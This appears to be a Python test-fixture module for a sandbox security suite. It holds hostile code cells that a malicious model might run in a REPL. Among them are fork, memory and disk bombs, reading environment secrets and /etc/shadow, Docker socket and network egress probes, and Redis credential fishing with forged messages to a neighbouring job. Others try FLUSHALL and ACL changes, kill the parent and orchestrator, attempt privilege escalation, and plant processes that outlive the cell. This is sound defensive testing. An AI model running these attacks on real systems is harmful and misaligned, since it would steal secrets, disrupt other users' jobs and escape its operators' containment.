"""Hostile cells for the security suite: what a malicious model would write in a ```repl block.

Each attack is a code template (``$name`` slots filled with Python literals by ``render``,
so test data never becomes code) plus the cell timeout it runs under. Attacks report every
attempt on its own line in a fixed shape the tests read:

- ``<what>: refused: <exception type>: <message>`` — the attempt failed;
- ``<what>: ALLOWED: <result>`` — the attempt succeeded (a breach unless the test says so);
- other lines (``... sent``, ``... still alive: True``, ``disk ...``) are facts the test
  checks one by one.

``Target`` carries what an attacker is assumed to know about the world outside (ports,
pids, paths, a neighbour's ids): the point is that knowing them does not help.
"""

from __future__ import annotations

from dataclasses import dataclass

from rlm_jobs.testing.policies.base import render

# Defines probe(): runs one attempt and prints whether it was refused or allowed.
PROBE = r"""
def probe(what, attempt):
    try:
        result = attempt()
    except Exception as exc:
        print(f"{what}: refused: {type(exc).__name__}: {str(exc)[:160]}")
        return None
    print(f"{what}: ALLOWED: {str(result)[:300]}")
    return result
"""


@dataclass(frozen=True)
class Target:
    """What the attack code is told about the host and its neighbour."""

    redis_port: int
    provider_port: int
    orchestrator_pid: int
    # Host addresses other than loopback (a bridge, the primary interface).
    host_addresses: tuple[str, ...] = ()
    # Files on the host holding secrets: a planted one, Redis's config, a worker log.
    secret_files: tuple[str, ...] = ()
    # The honest job running beside the attack (Redis attacks only).
    victim_job_id: str = ""
    victim_sandbox_id: str = ""
    victim_context_key: str = ""
    victim_message_key: str = ""


@dataclass(frozen=True)
class Attack:
    name: str
    template: str
    cell_timeout_s: float = 10.0
    # The attack lasts seconds (it spins): the honest neighbour must finish meanwhile.
    neighbour_finishes_during: bool = False

    def code(self, target: Target) -> str:
        values = {
            "redis_port": target.redis_port,
            "provider_port": target.provider_port,
            "orchestrator_pid": target.orchestrator_pid,
            "host_addresses": list(target.host_addresses),
            "secret_files": list(target.secret_files),
            "victim_job_key": f"rlm:job:{target.victim_job_id}",
            "victim_user": f"rlm-sbx-{target.victim_sandbox_id}",
            "victim_prefix": f"rlm:sbx:{target.victim_sandbox_id}:",
            "victim_context_key": target.victim_context_key,
            "victim_message_key": target.victim_message_key,
        }
        used = {k: v for k, v in values.items() if f"${k}" in self.template}
        return render(PROBE + self.template, **used)


FORK_BOMB = Attack(
    "fork_bomb",
    r"""
import os, subprocess, time

spawned = []
try:
    while True:
        spawned.append(subprocess.Popen(["sleep", "600"]))
except OSError as exc:
    print(f"subprocess spam: refused after {len(spawned)} processes: {exc.strerror}")
for proc in spawned:
    proc.kill()
    proc.wait()

forks = 0
try:
    while True:
        if os.fork() == 0:
            # Every child forks on for ever; refused forks only slow it down.
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
        forks += 1
except OSError as exc:
    print(f"fork bomb: refused after {forks} forks: {exc.strerror}")
""",
)

MEMORY_BOMB = Attack(
    "memory_bomb",
    r"""
hog = []
try:
    while True:
        hog.append(b"x" * (16 << 20))  # written, so every page is really used
except MemoryError:
    held = len(hog) * 16
    hog.clear()
    print(f"memory bomb: refused after {held} MB: MemoryError")
""",
)

# Each child stays under the per-process address-space limit; together they pass the
# sandbox's memory limit.
MEMORY_BOMB_PROCESSES = Attack(
    "memory_bomb_processes",
    r"""
import os, time

children = []
for _ in range(12):
    pid = os.fork()
    if pid == 0:
        code = 0
        try:
            block = b"x" * (40 << 20)
            time.sleep(3)
        except MemoryError:
            code = 3
        os._exit(code)
    children.append(pid)
for pid in children:
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        print(f"child {pid}: killed by signal {os.WTERMSIG(status)}")
    else:
        print(f"child {pid}: exited {os.WEXITSTATUS(status)}")
""",
    cell_timeout_s=20.0,
)

CPU_SPIN = Attack(
    "cpu_spin", "while True:\n    pass\n", cell_timeout_s=4.0, neighbour_finishes_during=True
)

# Ignores and blocks the interrupt, swallows everything, and keeps extra cores busy.
CPU_SPIN_SIGNALS_IGNORED = Attack(
    "cpu_spin_signals_ignored",
    r"""
import signal, threading

for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
    signal.signal(sig, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGINT, signal.SIGTERM})


def spin():
    while True:
        pass


for _ in range(3):
    threading.Thread(target=spin, daemon=True).start()
while True:
    try:
        spin()
    except BaseException:
        pass
""",
    cell_timeout_s=2.0,
    neighbour_finishes_during=True,
)

DISK_FILL = Attack(
    "disk_fill",
    r"""
import os

candidates = [os.getcwd(), "/tmp", os.path.expanduser("~"), "/", "/dev/shm", "/var/tmp",
              "/run", "/opt", "/usr", "/home"]
with open("/proc/self/mounts") as mounts:
    candidates += [line.split()[1] for line in mounts]
seen = set()
for directory in candidates:
    try:
        real = os.path.realpath(directory)
        if real in seen or not os.path.isdir(real) or real.startswith(("/proc", "/sys")):
            continue
        seen.add(real)
        probe_file = os.path.join(real, ".rlm-probe")
        open(probe_file, "wb").close()
    except OSError:
        continue
    os.unlink(probe_file)
    written, files, why = 0, [], "no error"
    try:
        for i in range(4096):
            path = os.path.join(real, f"fill-{i}")
            files.append(path)
            with open(path, "wb") as f:
                for _ in range(4):
                    f.write(b"x" * (1 << 20))
                    written += 1
    except OSError as exc:
        why = exc.strerror
    for path in files:
        try:
            os.unlink(path)
        except OSError:
            pass
    print(f"disk {real}: stopped after {written} MB: {why}")
print("disk fill done")
""",
    cell_timeout_s=20.0,
)

NETWORK = Attack(
    "network_egress",
    r"""
import socket

targets = [("127.0.0.1", $redis_port), ("127.0.0.1", $provider_port), ("127.0.0.1", 2375)]
targets += [(address, $redis_port) for address in $host_addresses]
targets += [("198.51.100.1", 80), ("198.51.100.1", 443)]
for host, port in targets:
    s = socket.socket()
    s.settimeout(2)
    probe(f"tcp {host}:{port}", lambda: s.connect((host, port)) or "CONNECTED")
    s.close()
for host, port in [("::1", $redis_port), ("2001:db8::1", 80)]:
    s = socket.socket(socket.AF_INET6)
    s.settimeout(2)
    probe(f"tcp [{host}]:{port}", lambda: s.connect((host, port)) or "CONNECTED")
    s.close()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe("udp 198.51.100.1:53", lambda: udp.sendto(b"x", ("198.51.100.1", 53)))
probe("raw packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
print("interfaces:", [name for _, name in socket.if_nameindex()])
""",
)

SECRETS = Attack(
    "secrets",
    r"""
import os

print("env names:", sorted(os.environ))
for name, value in sorted(os.environ.items()):
    print(f"env {name}={value}")
pids = sorted(p for p in os.listdir("/proc") if p.isdigit())
print("visible pids:", pids)
for pid in ["self", "1", str($orchestrator_pid), *pids]:
    for what in ("environ", "cmdline"):
        path = f"/proc/{pid}/{what}"
        probe(path, lambda: open(path, "rb").read().replace(b"\0", b" ")[:3000])
files = $secret_files + ["/etc/shadow", "/etc/passwd", "/root/.bashrc", "/work/main/.env",
                         "/proc/1/root/etc/hostname", f"/proc/{$orchestrator_pid}/root/etc/shadow"]
for path in files:
    probe(path, lambda: open(path, errors="replace").read(3000))
""",
)

DOCKER_SOCKET = Attack(
    "docker_socket",
    r"""
import os, socket, stat

found = []
# Everywhere but the kernel's file systems and the read-only trees of code.
skip = ("/proc", "/sys", "/dev", "/usr", "/opt/python", "/opt/site-packages", "/opt/venv")
for root, dirs, names in os.walk("/"):
    if root.startswith(skip):
        dirs[:] = []
        continue
    for name in names:
        path = os.path.join(root, name)
        try:
            if stat.S_ISSOCK(os.lstat(path).st_mode):
                found.append(path)
        except OSError:
            pass
print("unix sockets visible:", found)
for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/var/run/docker/containerd/containerd.sock"]:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)

    def talk():
        s.connect(path)
        s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        return s.recv(200)

    probe(f"docker api {path}", talk)
    s.close()
for port in (2375, 2376):
    s = socket.socket()
    s.settimeout(2)
    probe(f"docker api tcp 127.0.0.1:{port}", lambda: s.connect(("127.0.0.1", port)))
    s.close()
""",
)

REDIS = Attack(
    "redis",
    r"""
import gc, json
from sandbox import resp

# The runtime's own client and its bootstrap (user, password, socket), fished from memory.
runtime = next(o for o in gc.get_objects() if type(o).__name__ == "Runtime")
r, boot = runtime.redis, runtime.boot
socket_path = boot.redis_unix_socket
print("fished the runtime's client: user", boot.username, "socket", socket_path)

# Another job's data and channels.
probe("GET neighbour job record", lambda: r.get($victim_job_key))
probe("HGETALL neighbour job record", lambda: r.call("HGETALL", $victim_job_key))
probe("GET neighbour context", lambda: r.get($victim_context_key))
probe("GET neighbour sandbox message", lambda: r.get($victim_message_key))
probe("SET neighbour sandbox key", lambda: r.call("SET", $victim_prefix + "msg:forged", "x"))
forged_exec = json.dumps({"type": "exec", "seq": 999, "id": "forged-exec",
                          "code": "FINAL('pwned')", "timeout_s": 5, "max_output_chars": 100})
forged_result = json.dumps({"type": "cell_result", "seq": 999, "id": "forged-result",
                            "reply_to": "x", "stdout": "pwned", "stderr": "", "final": "pwned"})
probe("PUBLISH forged exec to neighbour", lambda: r.publish($victim_prefix + "in", forged_exec))
probe("PUBLISH forged result as neighbour",
      lambda: r.publish($victim_prefix + "out", forged_result))


def listen(channel, pattern=False):
    conn = resp.Connection(unix_socket=socket_path, username=boot.username,
                           password=boot.password, timeout_s=5)
    try:
        conn.call("PSUBSCRIBE" if pattern else "SUBSCRIBE", channel)
        for _ in range(3):
            message = conn.read_push(timeout_s=1)
            if message and message[0] in (b"message", b"pmessage"):
                return message
        return "subscribed"
    finally:
        conn.close()


probe("SUBSCRIBE neighbour in", lambda: listen($victim_prefix + "in"))
probe("SUBSCRIBE neighbour out", lambda: listen($victim_prefix + "out"))
probe("PSUBSCRIBE rlm:*", lambda: listen("rlm:*", pattern=True))

# Admin commands.
commands = [
    ("KEYS", "*"), ("SCAN", "0"), ("RANDOMKEY",), ("DBSIZE",), ("INFO",),
    ("PUBSUB", "CHANNELS"), ("CONFIG", "GET", "requirepass"),
    ("CONFIG", "SET", "requirepass", ""), ("FLUSHALL",), ("FLUSHDB",),
    ("ACL", "LIST"), ("ACL", "USERS"), ("ACL", "WHOAMI"),
    ("ACL", "SETUSER", boot.username, "~*", "&*", "+@all"),
    ("ACL", "SETUSER", "default", "nopass"), ("ACL", "DELUSER", $victim_user),
    ("CLIENT", "LIST"), ("CLIENT", "KILL", "TYPE", "normal"), ("MONITOR",),
    ("DEBUG", "SLEEP", "0"), ("EVAL", "return redis.call('KEYS', '*')", "0"),
    ("FUNCTION", "LIST"), ("MODULE", "LIST"), ("SAVE",), ("BGSAVE",),
    ("SELECT", "1"), ("SWAPDB", "0", "1"), ("DEL", $victim_job_key), ("SHUTDOWN", "NOSAVE"),
]
for command in commands:
    probe(" ".join(command[:2]), lambda: r.call(*command))


# Other identities through the same socket.
def connect_as(**credentials):
    other = resp.Connection(unix_socket=socket_path, timeout_s=5, **credentials)
    try:
        return other.get($victim_job_key)
    finally:
        other.close()


for what, credentials in [
    ("connect as default, no password", {}),
    ("connect as default, guessed password", {"password": "redis"}),
    ("connect as the neighbour's user", {"username": $victim_user, "password": "guess"}),
]:
    probe(what, lambda: connect_as(**credentials))
""",
)

KILL_PARENT = Attack(
    "kill_parent",
    r"""
import os, signal, time

parent = os.getppid()
print("own pid", os.getpid(), "parent", parent)


def alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


for what, attempt in [
    (f"kill(parent {parent}, SIGKILL)", lambda: os.kill(parent, signal.SIGKILL)),
    ("kill(1, SIGKILL)", lambda: os.kill(1, signal.SIGKILL)),
    ("kill(orchestrator, SIGKILL)", lambda: os.kill($orchestrator_pid, signal.SIGKILL)),
    ("killpg(orchestrator's group, SIGKILL)",
     lambda: os.killpg($orchestrator_pid, signal.SIGKILL)),
    ("kill(-1, SIGKILL)", lambda: os.kill(-1, signal.SIGKILL)),
]:
    try:
        attempt()
        print(f"{what}: sent")
    except OSError as exc:
        print(f"{what}: refused: {type(exc).__name__}: {exc.strerror}")
time.sleep(0.3)
print("parent still alive:", alive(parent) and os.getppid() == parent)
""",
)

# Kills the parent's process group, then its own: the sandbox takes itself down.
KILL_PARENT_GROUP = Attack(
    "kill_parent_group",
    r"""
import os, signal, time

try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError as exc:
    print(f"killpg(parent's group): refused: {exc.strerror}")
os.killpg(0, signal.SIGKILL)
time.sleep(5)
print("still running after killpg(0)")
""",
)

# Privileges: what the process holds, and the usual ways to get more.
PRIVILEGE_ESCALATION = Attack(
    "privilege_escalation",
    r"""
import ctypes, os

status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
for name in ("Uid", "Gid", "Groups", "CapEff", "CapPrm", "CapBnd", "CapAmb", "NoNewPrivs",
             "Seccomp"):
    print(f"status {name}: {' '.join(status.get(name, '?').split())}")
libc = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    if getattr(libc, name)(*args) != 0:
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))
    return "succeeded"


probe("setuid(0)", lambda: os.setuid(0))
probe("setgid(0)", lambda: os.setgid(0))
probe("unshare(user namespace)", lambda: call("unshare", 0x10000000))
probe("unshare(mount namespace)", lambda: call("unshare", 0x00020000))
probe("mount tmpfs", lambda: call("mount", b"none", b"/scratch", b"tmpfs", 0, None))
probe("chroot", lambda: os.chroot("/scratch"))
probe("write /proc/sys/kernel/hostname", lambda: open("/proc/sys/kernel/hostname", "w"))
""",
)

# How much of the shared Redis, and of the orchestrator's memory, can a sandbox take? It may
# not write keys at all; what it publishes is bounded on the host.
REDIS_FLOOD = Attack(
    "redis_flood",
    r"""
import gc, json
from sandbox import resp

runtime = next(o for o in gc.get_objects() if type(o).__name__ == "Runtime")
r, boot = runtime.redis, runtime.boot
blob = b"x" * (1 << 20)
stored = 0
try:
    for i in range(128):
        r.call("SET", f"{boot.message_key_prefix}flood:{i}", blob)
        stored += 1
    print(f"redis flood: ALLOWED: stored {stored} MB in the shared Redis, no TTL")
except resp.RedisError as exc:
    print(f"redis flood: refused after {stored} MB: {type(exc).__name__}: {exc}")

# Its own output channel is open: 1 MB payloads (over any part's size), and parts of
# messages that claim to be huge and never complete.
for i in range(32):
    r.call("PUBLISH", boot.channel_out, blob)
part = {"type": "part", "index": 0, "total": 2048, "data": "y" * 32768}
for i in range(400):
    r.call("PUBLISH", boot.channel_out, json.dumps({**part, "message_id": f"m{i}"}))
print("publish flood: published 32 MB of oversized payloads and 400 parts of 400 messages")
""",
)

# Not run beside a neighbour: the first job leaves state behind, the next one looks for it.
PLANT = r"""
import builtins, os, sys, time

for path in ("/scratch/planted", "/tmp/planted", os.path.expanduser("~/planted")):
    try:
        with open(path, "w") as f:
            f.write("planted by an earlier job")
    except OSError as exc:
        print(path, exc)
os.environ["PLANTED"] = "1"
builtins.PLANTED = sys.modules["os"].PLANTED = "1"
if os.fork() == 0:  # a process that outlives the cell, in case the sandbox does too
    while True:
        time.sleep(1)
print("planted")
"""

LOOK = r"""
import builtins, os

found = [p for p in ("/scratch/planted", "/tmp/planted", os.path.expanduser("~/planted"))
         if os.path.exists(p)]
found += [where for where, planted in [("environment", "PLANTED" in os.environ),
                                       ("os module", hasattr(os, "PLANTED")),
                                       ("builtins", hasattr(builtins, "PLANTED"))] if planted]
print("left by an earlier job:", found)
others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]
print("other processes:", others)
"""

ALL = (
    FORK_BOMB,
    MEMORY_BOMB,
    MEMORY_BOMB_PROCESSES,
    CPU_SPIN,
    CPU_SPIN_SIGNALS_IGNORED,
    DISK_FILL,
    NETWORK,
    SECRETS,
    DOCKER_SOCKET,
    REDIS,
    KILL_PARENT,
    KILL_PARENT_GROUP,
    PRIVILEGE_ESCALATION,
    REDIS_FLOOD,
)
BY_NAME = {attack.name: attack for attack in ALL}
